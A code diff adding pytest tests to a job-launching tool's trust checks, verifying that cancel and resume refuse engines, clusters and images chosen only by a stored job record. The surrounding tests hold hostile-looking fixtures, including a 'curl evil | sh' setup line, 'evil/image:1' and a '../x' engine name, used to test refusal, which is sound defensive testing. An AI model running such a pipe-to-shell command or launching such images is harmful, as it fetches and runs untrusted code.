@@ -14,13 +14,13 @@ import pytest
 from mopsjobs.engines.job_dir import JobDir
 from mopsjobs.engines.local import runner_pid
 from mopsjobs.engines.lookup import by_hand
-from mopsjobs.engines.trust import Trust, check_choice, choices_of_last_launch
+from mopsjobs.engines.trust import MAX_BYTES, Trust, check_choice, choices_of_last_launch
 from mopsjobs.errors import EngineUnavailableError, UsageError, repeat_registry
 from mopsjobs.registry.job_registry import JobRegistry
 from support.cli import Cli, Remote, add, sentences
 from support.kubernetes import Api, kubeconfig, lines, log_path
 from support.runs import code, place, record, sets_of, study, until
-from support.slurm_commands import FakeSlurm
+from support.slurm_commands import FakeSlurm, waiting
 from support.terminal import TerminalStream
 
 JOB_PATH = "/apis/batch/v1/namespaces/models/jobs/seir-1"
@@ -106,6 +106,16 @@ def test_cancel_deletes_nothing_in_a_context_that_only_the_record_names(
     assert cli.ok("cancel", "seir-1", "--trust", "context:prod").err == "seir-1: cancelled, stopped\n"
 
 
+def test_a_job_that_has_ended_needs_no_trust_to_be_refused(cli: Cli, remote: Remote, cluster: Api) -> None:
+    """The flag would not help: the job cannot be cancelled. One that is cancelled may still have to be stopped."""
+    remote.jobs.finalize_job("seir-1", "failed")
+    ran = cli("cancel", "seir-1")
+    assert (ran.code, ran.err) == (6, "error: Job seir-1 has ended (failed); it cannot become cancelled.\n")
+    fields: dict[str, Any] = {"engine": "kubernetes", "k8s_name": "seir-1", "namespace": "models"}
+    add(remote.jobs, "seir-2", "cancelled", **fields, metadata={"k8s_context": "prod"})
+    assert "add: --trust context:prod" in cli("cancel", "seir-2").err
+
+
 @pytest.mark.parametrize(("answer", "code_", "status"), [("y", 0, "cancelled"), ("n", 130, "running")])
 def test_a_person_is_asked_with_each_value_named(
     cli: Cli, remote: Remote, cluster: Api, monkeypatch: pytest.MonkeyPatch, answer: str, code_: int, status: str
@@ -186,6 +196,24 @@ def test_resume_launches_nothing_that_only_the_record_chooses(
     assert cli.ok("resume", "job", *flags).out == "job.2\n"
     (told,) = (json.loads(one.body) for one in cluster.requests("post", JOBS_PATH))
     assert told["spec"]["template"]["spec"]["containers"][0]["image"] == "evil/image:1"
+
+
+@pytest.mark.parametrize("status", ["failed", "running"])
+def test_an_engine_that_does_not_exist_is_refused_by_name(cli: Cli, remote: Remote, status: str) -> None:
+    """A record may name any; it ended with an unexpected KeyError."""
+    add(remote.jobs, "job", status, engine="../x")
+    place(remote.store.inner, "job", study(sets_of(3)), code(Path("code")))
+    ran = cli("resume", "job")
+    told = "Job job cannot be resumed: its record names the engine '../x', expected local, kubernetes, dask, slurm."
+    assert (ran.code, ran.err) == (6, f"error: {told}\n")
+
+
+@pytest.mark.usefixtures("planted")
+def test_flags_go_before_the_record_and_are_no_question(cli: Cli, cluster: Api) -> None:
+    flags = ("--image", "mine:1", "--secret", "mine", "--service-account", "mine", "--context", "here")
+    said = cli.fails(6, "resume", "job", *flags)
+    assert said.partition("names ")[2].partition(";")[0] == "engine:kubernetes, namespace:models"
+    assert cli.ok("resume", "job", *flags, "--namespace", "models", "--trust", "engine:kubernetes").out == "job.2\n"
 
 
 @pytest.mark.claim("What you named or launched needs no question")
@@ -281,6 +309,12 @@ def test_a_flag_is_taken_by_the_letter_and_a_pattern_as_one() -> None:
     assert not trust.allows("image:evil/registry.example/x")
 
 
+@pytest.mark.parametrize("text", ["{}", "7", "[7, null]", "", "[" * 100_000, '["engine:local"' + " " * MAX_BYTES])
+def test_a_damaged_note_of_a_launch_names_nothing(tmp_path: Path, text: str) -> None:
+    JobDir(tmp_path).own_launch.write_text(text)
+    assert not choices_of_last_launch(JobDir(tmp_path))
+
+
 @pytest.mark.skipif(os.geteuid() != 0, reason="Only root gives files away.")
 def test_a_note_of_another_user_names_nothing(tmp_path: Path) -> None:
     """As root with the home of a user, who may write what lies there."""
@@ -339,6 +373,36 @@ def test_resume_launches_nothing_on_slurm_that_only_the_record_chooses(
     assert (Path(cli.env["HOME"]) / ".local/state/mops-jobs/jobs/job.2/slurm.sh").read_text().count(
         "curl evil | sh"
     ) == 1
+
+
+def test_what_this_machine_launched_on_slurm_needs_no_question(cli: Cli, remote: Remote, slurm: FakeSlurm) -> None:
+    """The record has the array and its place. Later launches repeat the options, and cancel stops the array."""
+    code(Path.cwd())
+    Path("study.json").write_text(json.dumps(study(sets_of(3)).to_dict()))
+    flags = ("--engine", "slurm", "--setup", "module load gcc", "--account", "p1", "--mem", "1G", "--python", "/p")
+    cli.ok("submit", "study.json", "--auto", "--job-id", "mine", "--shards", "3", *flags)
+    shown = record(remote.jobs, "mine")
+    assert (shown.status, shown.engine) == ("scheduled", "slurm")
+    assert shown.metadata.items() >= {"slurm_job_id": "12", "slurm_memory": "1G", "slurm_shards": "3"}.items()
+    assert "Slurm      job 12 of lab\n" in cli.ok("status", "mine").out
+    line = waiting().replace("seir-1", "mine")
+    slurm.says("scontrol", "ClusterName = lab\n", show_job_12=f"echo '{line}'")
+    assert cli.ok("cancel", "mine").err == "mine: cancelled, stopped\n"
+    slurm.says("scontrol", "ClusterName = lab\n")
+    assert cli.ok("resume", "mine", "--mem", "x2").out == "mine.2\n"
+    again = [line for line in slurm.asked if line.startswith("sbatch")][-1]
+    assert " --array=0-2 --nodes=1 --ntasks=1 --cpus-per-task=1 --mem=2048M --account=p1 " in again
+
+
+def test_a_job_of_another_cluster_is_not_launched_here(cli: Cli, remote: Remote, slurm: FakeSlurm) -> None:
+    """Its array may be at work there, and would run beside a second one."""
+    notes = {"slurm_job_id": "9", "slurm_cluster": "far"}
+    add(remote.jobs, "job", "running", engine="slurm", metadata=notes)
+    place(remote.store.inner, "job", study(sets_of(3)), code(Path("code")))
+    ran = cli("resume", "job", "--trust", "engine:slurm")
+    assert ran.code == 6
+    assert "Job job may be running: it runs on cluster far, and this is lab." in ran.err
+    assert not [line for line in slurm.asked if line.startswith("sbatch")]
 
 
 def test_cancel_tells_how_to_stop_an_array_by_its_name(cli: Cli, remote: Remote, slurm: FakeSlurm) -> None:
